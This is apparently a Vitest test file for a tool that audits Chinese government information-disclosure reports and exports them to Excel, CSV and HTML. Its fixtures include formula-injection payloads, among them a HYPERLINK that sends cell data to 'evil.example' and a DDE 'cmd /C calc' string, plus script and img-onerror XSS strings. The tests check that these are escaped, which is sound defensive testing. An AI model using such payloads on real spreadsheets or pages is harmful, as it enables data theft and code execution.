import { describe, expect, it, beforeAll } from 'vitest';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { buildAudit, renderAuditXlsx, type Audit } from '../../src/audit/index.js';
import { parseCsv } from '../../src/io/csv.js';
import { runAudit, writeAuditOutputs } from '../../src/pipeline/audit.js';
import { finding, report, statement, table } from './helpers.js';
import { checkPageInBrowser } from '../browser/check.js';

// Report fields a hostile or careless page could carry into the outputs.
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';
const PLUS = '+1';
const AT = '@SUM(1,2)';
const MINUS_CMD = '-2+3+cmd|" /C calc"!A0';
const TAB = '\t=1+1';
const CR = '\r=2+2';
const SCRIPT = '<script>console.error("xss")</script>某局';
const IMG = '<img src=x onerror="console.error(1)">网站栏目不全';

function hostileAudit(): Audit {
  const bad = report({
    id: 'hostile',
    agency: HYPERLINK,
    title: SCRIPT,
    year: 2020,
    tables: {
      proactive: null,
      applications: table({ 'new_received.total': 5, 'carried_over.total': 0, 'handled_total.total': 4, 'carried_forward.total': 0 }),
      review_litigation: null,
    },
    findings: [finding('applications.balance', ['applications.new_received.total', 'applications.handled_total.total'], MINUS_CMD)],
  });
  const ok = report({ id: 'fine', agency: '某县林业局', year: 2020 });
  const st = [
    statement('hostile', 'problem', PLUS, [['platform', 0.9]], { vague: true }),
    statement('hostile', 'problem', AT, [['timeliness', 0.8]]),
    statement('hostile', 'problem', TAB, [['staffing', 0.8]]),
    statement('hostile', 'problem', CR, [['coordination', 0.8]]),
    statement('fine', 'problem', SCRIPT, [['staffing', 0.9]]),
    statement('fine', 'problem', IMG, [['platform', 0.9]]),
    statement('fine', 'measure', '加强培训', [['staffing', 0.9]]),
  ];
  return buildAudit([bad, ok], st);
}

describe('audit outputs', () => {
  let dir: string;
  let audit: Audit;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'ogi-audit-out-'));
    audit = hostileAudit();
    await writeAuditOutputs(audit, dir);
  });

  it('audit.xlsx, streamed row by row, holds what the in-memory workbook holds, header bold', async () => {
    const streamed = new ExcelJS.Workbook();
    await streamed.xlsx.readFile(join(dir, 'audit.xlsx'));
    const whole = new ExcelJS.Workbook();
    await whole.xlsx.load((await renderAuditXlsx(audit)) as unknown as ArrayBuffer);
    const cells = (wb: ExcelJS.Workbook) =>
      wb.worksheets.map((ws) => {
        const rows: unknown[][] = [];
        ws.eachRow({ includeEmpty: true }, (row) => rows.push((row.values as unknown[]).slice(1)));
        return [ws.name, rows];
      });
    expect(cells(streamed)).toEqual(cells(whole));
    expect(streamed.worksheets[0].getRow(1).font?.bold).toBe(true);
  });

  it('audit.xlsx: a sheet per view, header frozen, autofilter on, formula-looking text read back as strings', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(dir, 'audit.xlsx'));
    const names = wb.worksheets.map((w) => w.name);
    expect(names).toEqual(['概况', '机构排名', '分组', '报告得分', '问题清单', '扣分明细', '共性问题', '扣分标准']);
    for (const ws of wb.worksheets) {
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(ws.autoFilter).toBeTruthy();
    }
    const issues = wb.getWorksheet('问题清单')!;
    const header = (issues.getRow(1).values as unknown[]).slice(1);
    expect(header).toContain('机构');
    const agencyCol = header.indexOf('机构') + 1;
    const quoteCol = header.indexOf('原文') + 1;
    const messageCol = header.indexOf('说明') + 1;
    const seen: string[] = [];
    let formulas = 0;
    issues.eachRow((row, n) => {
      if (n === 1) return;
      for (const col of [agencyCol, quoteCol, messageCol]) {
        const c = row.getCell(col);
        if (c.formula) formulas++;
        if (typeof c.value === 'string') seen.push(c.value);
        else if (c.value !== null) expect(c.type).toBe(ExcelJS.ValueType.String);
      }
    });
    expect(formulas).toBe(0);
    expect(seen).toContain(HYPERLINK);
    expect(seen).toContain(PLUS);
    expect(seen).toContain(AT);
    expect(seen).toContain(TAB);
    expect(seen.some((v) => v.endsWith('=2+2') && /^[\r\n]/.test(v))).toBe(true);
    expect(seen).toContain(MINUS_CMD);
    // Every cell of every sheet: no formula anywhere, the hyperlink text stays a string cell.
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((c) => {
          expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(c.type).not.toBe(ExcelJS.ValueType.Hyperlink);
        }),
      );
    }
    const ranking = wb.getWorksheet('机构排名')!;
    const agencies = ranking.getColumn(2).values.filter((v) => typeof v === 'string');
    expect(agencies).toContain(HYPERLINK);
    // Numbers stay numbers (sortable).
    const rankingHeader = (ranking.getRow(1).values as unknown[]).slice(1);
    expect(typeof ranking.getRow(2).getCell(rankingHeader.indexOf('得分') + 1).value).toBe('number');
    expect(typeof ranking.getRow(2).getCell(rankingHeader.indexOf('组内名次') + 1).value).toBe('number');
  });

  it('audit.csv: UTF-8 with BOM, every report listed, formula-looking text prefixed', () => {
    const text = readFileSync(join(dir, 'audit.csv'), 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(text);
    expect(header.slice(0, 3)).toEqual(['report_id', 'agency', 'year']);
    const ids = new Set(rows.map((r) => r[0]));
    expect(ids).toEqual(new Set(['hostile', 'fine']));
    const agencies = rows.map((r) => r[header.indexOf('agency')]);
    expect(agencies).toContain(`'${HYPERLINK}`);
    expect(agencies.some((a) => a.startsWith('='))).toBe(false);
    const quotes = rows.map((r) => r[header.indexOf('quote')]);
    expect(quotes).toContain(`'${AT}`);
    expect(quotes).toContain(`'${TAB}`);
    expect(quotes).toContain(`'${CR}`);
    // A plain signed number is not a formula; src/io leaves it as printed.
    expect(quotes).toContain(PLUS);
  });

  it('audit.html: Chinese, every finding with its cells or quote, report text escaped', () => {
    const html = readFileSync(join(dir, 'audit.html'), 'utf8');
    expect(html).toContain('<html lang="zh-CN">');
    expect(html).toContain('机构排名');
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;script&gt;console.error(&quot;x');
    // The failed balance check shows its cells with the printed numbers.
    expect(html).toContain('表三一、本年新收·总计');
    expect(html).toContain('applications.new_received.total');
    // The vague statement is quoted.
    expect(html).toContain('<q>+1</q>');
    expect(html).toContain('<q>@SUM(1,2)</q>');
    const hostile = audit.reports.find((r) => r.report_id === 'hostile')!;
    for (const i of hostile.issues) expect(html).toContain(i.label);
  });

  it('audit.html with hostile report text runs nothing in a browser', async () => {
    const check = await checkPageInBrowser(join(dir, 'audit.html'));
    expect(check.consoleErrors).toEqual([]);
    expect(check.externalRequests).toEqual([]);
    expect(check.chartsRendered).toBe(check.chartsFound);
  }, 60_000);

  it('an empty set still gives the three files, saying there is nothing to audit', async () => {
    const empty = mkdtempSync(join(tmpdir(), 'ogi-audit-empty-'));
    await writeAuditOutputs(buildAudit([], []), empty);
    expect(readFileSync(join(empty, 'audit.html'), 'utf8')).toContain('共审核 <strong>0</strong> 份年度报告');
    const [header, ...rows] = parseCsv(readFileSync(join(empty, 'audit.csv'), 'utf8'));
    expect(header[0]).toBe('report_id');
    expect(rows).toEqual([]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(empty, 'audit.xlsx'));
    expect(wb.getWorksheet('机构排名')!.rowCount).toBe(1);
  });

  it('runAudit audits every report even when a JavaScript caller asks it to keep none', async () => {
    const out = mkdtempSync(join(tmpdir(), 'ogi-audit-keep-'));
    const fixtures = join(import.meta.dirname, '../fixtures/corpus/reports');
    const files = ['103.txt', '133.txt', '134.txt'].map((f) => join(fixtures, f));
    // Not allowed by RunAuditOptions' type; a JavaScript caller can still pass them.
    const opts = { out, cache: false, jobs: 1, keepReports: false, keepStatements: false } as Parameters<typeof runAudit>[1];
    const run = await runAudit(files, opts);
    expect(run.summary.reports).toBe(3);
    expect(run.audit.reports).toHaveLength(3);
    expect(run.statements.length).toBeGreaterThan(0);
    const [, ...rows] = parseCsv(readFileSync(join(out, 'audit.csv'), 'utf8').replace(/^\uFEFF/, ''));
    expect(new Set(rows.map((r) => r[0])).size).toBe(3);
  });

  it('runAudit stops on a malformed group CSV, a bad filter or --groups with --by before reading any input', async () => {
    const work = mkdtempSync(join(tmpdir(), 'ogi-audit-opts-'));
    const bad = join(work, 'groups.csv');
    writeFileSync(bad, '机构,分组\n甲,一组\n乙\n');
    const out = join(work, 'out');
    await expect(runAudit([join(work, 'missing-input')], { out, groups: bad })).rejects.toThrow(`${bad} line 3: expected 2 fields`);
    await expect(runAudit([join(work, 'missing-input')], { out, groups: bad, by: 'level' })).rejects.toThrow(/--groups and --by/);
    await expect(runAudit([join(work, 'missing-input')], { out, filter: ['level'] })).rejects.toThrow(/level/);
    expect(existsSync(join(out, 'reports.jsonl'))).toBe(false);
  });
});
